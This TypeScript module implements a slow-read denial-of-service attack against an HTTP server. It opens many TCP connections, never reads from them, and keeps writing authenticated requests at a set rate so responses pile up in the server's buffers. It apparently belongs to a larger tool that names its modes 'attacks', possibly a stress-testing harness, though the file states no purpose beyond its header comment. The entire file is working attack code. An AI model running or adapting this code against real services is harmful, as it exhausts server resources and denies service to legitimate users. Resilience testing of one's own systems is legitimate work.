/** Connections that send and never read: answers stay with the server once the kernel's buffers are full. */
import { connect, type Socket } from 'node:net';
import type { Attack, Running } from './attack.ts';

export function leaveUnread(attack: Extract<Attack, { kind: 'unread' }>, count: (outcome: string) => void): Running {
  const { hostname, port, host } = new URL(attack.url);
  const request = `GET ${attack.path} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${attack.key}\r\n\r\n`;
  const sockets: (Socket | undefined)[] = new Array(attack.connections).fill(undefined);
  let ended = false;
  let next = 0;

  function open(place: number): Socket {
    const socket = connect(Number(port), hostname);
    socket.pause();
    socket.on('error', () => undefined);
    socket.once('close', () => {
      sockets[place] = undefined;
      if (!ended) count('closed by the server');
    });
    sockets[place] = socket;
    return socket;
  }

  const timer = setInterval(() => {
    const place = next++ % attack.connections;
    const socket = sockets[place] ?? open(place);
    // The socket is not read, so only a write that fails shows that the other side has ended.
    if (socket.writableLength < request.length) socket.write(request, (error) => count(error ? 'not sent' : 'asked'));
  }, 1_000 / attack.perSecond);
  return {
    underWay: Promise.resolve(),
    end() {
      ended = true;
      clearInterval(timer);
      for (const socket of sockets) socket?.destroy();
    },
  };
}
